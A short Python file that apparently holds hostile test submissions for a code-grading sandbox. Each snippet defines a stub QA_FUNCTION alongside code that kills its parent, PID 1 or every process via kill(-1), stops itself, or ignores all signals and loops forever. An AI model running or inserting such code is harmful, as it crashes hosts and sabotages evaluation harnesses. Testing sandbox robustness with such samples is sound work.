# Kills its parent, the first process and everything else that it may.
import os, signal
for kind in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
    for pid in (os.getppid(), 1, 2, 0 - os.getppid()):
        try: os.kill(pid, kind)
        except BaseException: pass
def QA_FUNCTION(*args):
    return None
# ---
import os, signal
def QA_FUNCTION(*args):
    for pid in [-1, *range(2, 400)]:
        if pid != os.getpid():
            try: os.kill(pid, signal.SIGKILL)
            except BaseException: pass
    return None
# ---
import os, signal
os.kill(os.getpid(), signal.SIGSTOP)
def QA_FUNCTION(*args):
    return None
# ---
import signal
for kind in range(1, 65):
    try: signal.signal(kind, signal.SIG_IGN)
    except BaseException: pass
def QA_FUNCTION(*args):
    while True: pass
